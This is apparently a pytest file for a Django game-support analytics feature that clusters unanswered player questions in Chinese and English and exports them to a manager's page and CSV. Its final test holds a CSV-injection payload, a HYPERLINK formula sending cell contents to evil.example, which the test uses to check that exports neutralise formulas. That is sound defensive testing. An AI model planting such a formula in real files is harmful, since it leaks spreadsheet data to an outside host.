"""Knowledge gaps: questions the knowledge base could not answer, grouped when alike."""

from __future__ import annotations

import csv
import importlib
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from analytics.hooks import knowledge_gap_record, on_knowledge_gap
from analytics.models import GapCluster, KnowledgeGap
from analytics.services.gap_words import question_terms
from analytics.tasks import knowledge_gaps
from chat.models import Conversation

pytestmark = pytest.mark.django_db


def test_alike_questions_share_a_group_and_others_start_their_own(players):
    conversation = Conversation.objects.create(player=players[0])
    first = knowledge_gap_record(question="角色可以转服吗", conversation_id=conversation.pk, language="zh-hans")
    again = knowledge_gap_record(question="怎么转服", language="zh-hans")
    other = knowledge_gap_record(question="公会战什么时候开始", language="zh-hans")
    english = knowledge_gap_record(question="How do I transfer my character to another server?", language="en")
    english_again = knowledge_gap_record(question="can I transfer character to a different server", language="en")

    assert first.cluster == again.cluster == english.cluster == english_again.cluster
    assert first.cluster.label == "角色可以转服吗" and first.conversation == conversation
    assert other.cluster != first.cluster
    counts = dict(GapCluster.objects.values_list("label", "question_count"))
    assert counts == {"角色可以转服吗": 4, "公会战什么时候开始": 1}


def test_a_gap_reported_by_the_brain_is_grouped_after_the_commit(django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        on_knowledge_gap("宠物怎么进化", None, "zh-hans")
        on_knowledge_gap("宠物进化需要什么材料", None, "zh-hans")

    assert KnowledgeGap.objects.count() == 2
    assert GapCluster.objects.get().question_count == 2


def test_the_gaps_page_lists_the_most_asked_groups_with_their_phrasings(client, mia):
    for question in ["宠物怎么进化", "宠物进化需要什么材料", "宠物怎么进化", "兑换码在哪里输入"]:
        knowledge_gap_record(question=question, language="zh-hans")
    knowledge_gap_record(question="周年庆有什么活动", language="zh-hans", at=timezone.now() - timedelta(days=60))
    client.force_login(mia)

    page = client.get("/analytics/gaps/")
    groups = [(g["cluster"].label, g["count"], g["examples"]) for g in page.context["groups"]]
    assert groups == [
        ("宠物怎么进化", 3, ["宠物怎么进化", "宠物进化需要什么材料"]),
        ("兑换码在哪里输入", 1, ["兑换码在哪里输入"]),
    ]  # the anniversary question is older than the 30 days shown
    assert page.context["total"] == 4

    csv = client.get("/analytics/gaps/?format=csv").content.decode("utf-8-sig").splitlines()
    assert csv[0] == "question,count,language,first_seen,last_seen,examples"
    assert csv[1].startswith("宠物怎么进化,3,zh-hans,") and csv[1].endswith(",宠物怎么进化 | 宠物进化需要什么材料")


def test_the_gaps_page_names_each_questions_language_in_the_managers_words(client, mia):
    knowledge_gap_record(question="宠物怎么进化", language="zh-hans")
    knowledge_gap_record(question="anniversary event rewards", language="en")
    knowledge_gap_record(question="¿dónde está mi pedido?", language="es")
    client.force_login(mia)

    def languages(accept: str) -> list[str]:
        html = client.get("/analytics/gaps/", HTTP_ACCEPT_LANGUAGE=accept).content.decode()
        rows = html.split('data-testid="gaps-table"')[1].split("<tbody>")[1].split("</tr>")[:-1]
        return [row.split("<td>")[4].split("</td>")[0] for row in rows]

    # The column read "zh-hans" and "en", in Chinese too; a code Django does not know stays as it is.
    assert languages("en") == ["Simplified Chinese", "English", "Spanish"]
    assert languages("zh-hans") == ["简体中文", "英语", "西班牙语"]


def test_a_batch_reads_the_groups_once_and_joins_the_groups_it_makes_itself():
    """A game's unanswered questions make thousands of groups: reading them all again for
    every gap of a batch made the batch cost its size times theirs."""
    for i in range(30):  # 30 groups with nothing in common
        knowledge_gap_record(question=f"zork{i} blip{i} quux{i}", language="en")
    asked = timezone.now().isoformat()
    batch = [
        ["宠物怎么进化", None, "zh-hans", asked],
        ["宠物进化需要什么材料", None, "zh-hans", timezone.now().isoformat()],
        ["zork3 blip3 quux3 again", None, "en", timezone.now().isoformat()],
    ]

    with CaptureQueriesContext(connection) as queries:
        knowledge_gaps(batch)

    reads = [q["sql"] for q in queries if q["sql"].startswith("SELECT") and "analytics_gapcluster" in q["sql"]]
    assert len(reads) == 1
    counts = dict(GapCluster.objects.values_list("label", "question_count"))
    assert counts["宠物怎么进化"] == 2 and "宠物进化需要什么材料" not in counts  # a group made in this batch
    assert counts["zork3 blip3 quux3"] == 2 and len(counts) == 31


def test_a_group_not_seen_for_longer_than_the_active_window_takes_no_new_questions():
    old = knowledge_gap_record(question="周年庆有什么活动", language="zh-hans", at=timezone.now() - timedelta(days=120))
    new = knowledge_gap_record(question="周年庆有什么活动", language="zh-hans")

    assert old.cluster_id != new.cluster_id


def test_a_batch_groups_its_gaps_as_one_at_a_time_would_on_sqlite():
    from tests.analytics.gap_batch_scenario import run

    recorded = run()
    assert recorded["batch"] == recorded["one_by_one"]
    groups = {label: (count, first, last) for label, _, _, count, first, last in recorded["batch"]["groups"]}
    assert groups["宠物怎么进化"][0] == 3 and groups["zork blip quux"][0] == 2
    assert [group[0] for group in recorded["batch"]["groups"]].count("???") == 2


def test_a_batch_groups_its_gaps_as_one_at_a_time_would_on_postgresql(production_env):
    from tests import servers

    recorded = servers.scenario_printed(production_env, "tests.analytics.gap_batch_scenario")
    assert recorded["batch"] == recorded["one_by_one"]
    assert len(recorded["batch"]["gaps"]) == 2 + 9


def test_a_batch_costs_a_few_statements_whatever_its_size():
    """One at a time, each gap was a transaction of three statements: about 3 ms of CPU a
    gap, which on the embedded default ran beside the streams (docs/benchmarks-history.md, "The
    sixteenth round")."""
    knowledge_gap_record(question="宠物怎么进化", language="zh-hans")
    batch = [[f"zork{i} blip{i} quux{i}", None, "en", timezone.now().isoformat()] for i in range(40)]
    batch.append(["宠物进化需要什么材料", None, "zh-hans", timezone.now().isoformat()])

    with CaptureQueriesContext(connection) as queries:
        knowledge_gaps(batch)

    assert len(queries) <= 8
    assert KnowledgeGap.objects.count() == 42
    assert GapCluster.objects.get(label="宠物怎么进化").question_count == 2


def test_a_batch_that_is_rolled_back_leaves_its_groups_as_they_were(monkeypatch):
    """The task then records the same gaps one at a time, with the same groups."""
    from django.db import DatabaseError

    from analytics.services import gaps

    knowledge_gap_record(question="宠物怎么进化", language="zh-hans", at=timezone.now() - timedelta(days=3))
    groups = gaps.GapGroups(timezone.now() - gaps.ACTIVE_FOR)
    before = (
        {pk: (g.terms, g.last_seen) for pk, g in groups.groups.items()},
        {t: list(v) for t, v in groups.by_term.items()},
    )
    monkeypatch.setattr(
        gaps, "_join_sql", lambda vendor: "UPDATE no_such_table SET x = %s, y = %s, z = %s WHERE id = %s"
    )
    asked = [
        gaps.AskedGap("宠物进化需要什么材料", None, "zh-hans", timezone.now()),
        gaps.AskedGap("公会战什么时候开始", None, "zh-hans", timezone.now()),
    ]

    with pytest.raises(DatabaseError):
        gaps.knowledge_gaps_record(asked, groups=groups)

    after = (
        {pk: (g.terms, g.last_seen) for pk, g in groups.groups.items()},
        {t: v for t, v in groups.by_term.items() if v},
    )
    assert after == (before[0], {t: v for t, v in before[1].items() if v})
    assert KnowledgeGap.objects.count() == 1 and GapCluster.objects.count() == 1


def test_the_similar_questions_column_does_not_repeat_the_question_itself(client, mia):
    for question in ["宠物怎么进化", "宠物进化需要什么材料", "兑换码在哪里输入"]:
        knowledge_gap_record(question=question, language="zh-hans")
    client.force_login(mia)

    html = client.get("/analytics/gaps/").content.decode()
    rows = html.split('data-testid="gaps-table"')[1].split("<tbody>")[1].split("</tr>")[:-1]
    similar = [" ".join(re.sub(r"<[^>]+>", " ", row.split("<td>")[3]).split()) for row in rows]

    assert similar == ["宠物进化需要什么材料", "–"]  # a group asked one way only has nothing else to list


def test_the_same_question_asked_in_chinese_and_in_english_is_one_gap_on_the_page(client, mia):
    """The manager read two small gaps for one large one: the English askers had a group of their own."""
    knowledge_gap_record(question="新版本安卓12闪退", language="zh-hans")
    knowledge_gap_record(question="安卓12一进游戏就闪退", language="zh-hans")
    knowledge_gap_record(question="crash on android 12 after update", language="en")
    knowledge_gap_record(question="how do pets evolve", language="en")
    knowledge_gap_record(question="宠物怎么进化", language="zh-hans")
    knowledge_gap_record(question="when does the cross-server battle start", language="en")
    knowledge_gap_record(question="跨服战几点开始", language="zh-hans")
    knowledge_gap_record(question="where do I enter a redeem code", language="en")
    knowledge_gap_record(question="兑换码在哪里输入", language="zh-hans")
    knowledge_gap_record(question="沙漠地图里怎么养龙", language="zh-hans")  # as the offline bot records them
    knowledge_gap_record(question="how do I breed dragons in the desert zone", language="en")
    client.force_login(mia)

    html = client.get("/analytics/gaps/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    rows = html.split('data-testid="gaps-table"')[1].split("<tbody>")[1].split("</tr>")[:-1]
    cells = [[" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in row.split("<td>")[1:5]] for row in rows]

    both = "Simplified Chinese / English"
    assert cells == [
        # named in the manager's language: its English phrasing, though first asked in Chinese
        ["crash on android 12 after update", "3", "安卓12一进游戏就闪退 新版本安卓12闪退", both],
        ["how do pets evolve", "2", "宠物怎么进化", "English / Simplified Chinese"],
        ["when does the cross-server battle start", "2", "跨服战几点开始", "English / Simplified Chinese"],
        ["where do I enter a redeem code", "2", "兑换码在哪里输入", "English / Simplified Chinese"],
        ["how do I breed dragons in the desert zone", "2", "沙漠地图里怎么养龙", "English / Simplified Chinese"],
    ]


def test_questions_on_different_things_stay_apart_whatever_their_language():
    crash = knowledge_gap_record(question="新版本安卓12闪退", language="zh-hans")
    pets = knowledge_gap_record(question="how do pets evolve", language="en")
    talents = knowledge_gap_record(question="how to build talents in the new patch", language="en")
    anniversary = knowledge_gap_record(question="周年庆有什么活动", language="zh-hans")

    assert len({crash.cluster_id, pets.cluster_id, talents.cluster_id, anniversary.cluster_id}) == 4


def test_an_english_group_from_before_the_upgrade_takes_the_same_question_in_chinese():
    from django.apps import apps

    migration = importlib.import_module("analytics.migrations.0005_gap_terms_in_both_languages")
    english = knowledge_gap_record(question="crash on android 12 after update", language="en").cluster
    GapCluster.objects.filter(pk=english.pk).update(terms=["12", "after", "android", "crash", "updat"])  # as it was

    migration.reterm_active_groups(apps, None)
    chinese = knowledge_gap_record(question="新版本安卓12闪退", language="zh-hans")

    assert chinese.cluster == english


def test_upgrading_groups_asked_in_chinese_does_not_load_jieba_and_gives_them_their_new_terms(monkeypatch):
    """Migrating loaded jieba (a second and some 100 MB in the release step) to cut again every
    active group, though only a label with English words is cut otherwise now."""
    from django.apps import apps

    from agents.knowledge import tokenize

    migration = importlib.import_module("analytics.migrations.0005_gap_terms_in_both_languages")
    labels = ["跨服战什么时候开", "宠物进化需要什么材料", "兑换码在哪里输入"]
    groups = [knowledge_gap_record(question=label, language="zh-hans").cluster for label in labels]
    for group in groups:  # as the version before cut them: every term, the words that only ask too
        GapCluster.objects.filter(pk=group.pk).update(terms=sorted(set(tokenize.tokenize(group.label))))
    cut_before = {g.label: GapCluster.objects.get(pk=g.pk).terms for g in groups}
    assert "时候" in cut_before["跨服战什么时候开"] and "需要" in cut_before["宠物进化需要什么材料"]

    def no_jieba():
        raise AssertionError("jieba was loaded")

    monkeypatch.setattr(tokenize, "_jieba", no_jieba)
    migration.reterm_active_groups(apps, None)
    monkeypatch.undo()

    assert {g.label: g.terms for g in GapCluster.objects.all()} == {label: question_terms(label) for label in labels}


@pytest.mark.parametrize(
    ("language", "named", "similar"),
    [
        ("en", "crash on android 12 after update", ["安卓12一进游戏就闪退", "新版本安卓12闪退"]),
        ("zh-hans", "安卓12一进游戏就闪退", ["新版本安卓12闪退", "crash on android 12 after update"]),
    ],
)
def test_a_group_asked_in_both_languages_is_named_in_the_managers(client, mia, language, named, similar):
    """First asked in English, then mostly in Chinese: the Chinese page named it in English."""
    knowledge_gap_record(question="crash on android 12 after update", language="en")
    knowledge_gap_record(question="新版本安卓12闪退", language="zh-hans", at=timezone.now() + timedelta(seconds=1))
    knowledge_gap_record(question="安卓12一进游戏就闪退", language="zh-hans", at=timezone.now() + timedelta(seconds=2))
    client.force_login(mia)

    page = client.get("/analytics/gaps/", HTTP_ACCEPT_LANGUAGE=language)
    html = page.content.decode()
    row = html.split('data-testid="gaps-table"')[1].split("<tbody>")[1].split("</tr>")[0]
    cells = [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in row.split("<td>")[1:4]]

    assert cells == [named, "3", " ".join(similar)]
    assert page.context["charts"]["per_group"]["labels"] == [named]


def test_a_question_typed_as_a_formula_is_text_in_the_managers_spreadsheet(client, mia):
    """CSV injection: Excel runs a cell starting with = + - @ as a formula when the file is opened."""
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
    knowledge_gap_record(question=attack, language="en")
    client.force_login(mia)

    rows = list(csv.reader(client.get("/analytics/gaps/?format=csv").content.decode("utf-8-sig").splitlines()))
    assert rows[1][0] == "'" + attack and rows[1][5] == "'" + attack
    assert rows[1][1] == "1"  # numbers stay numbers
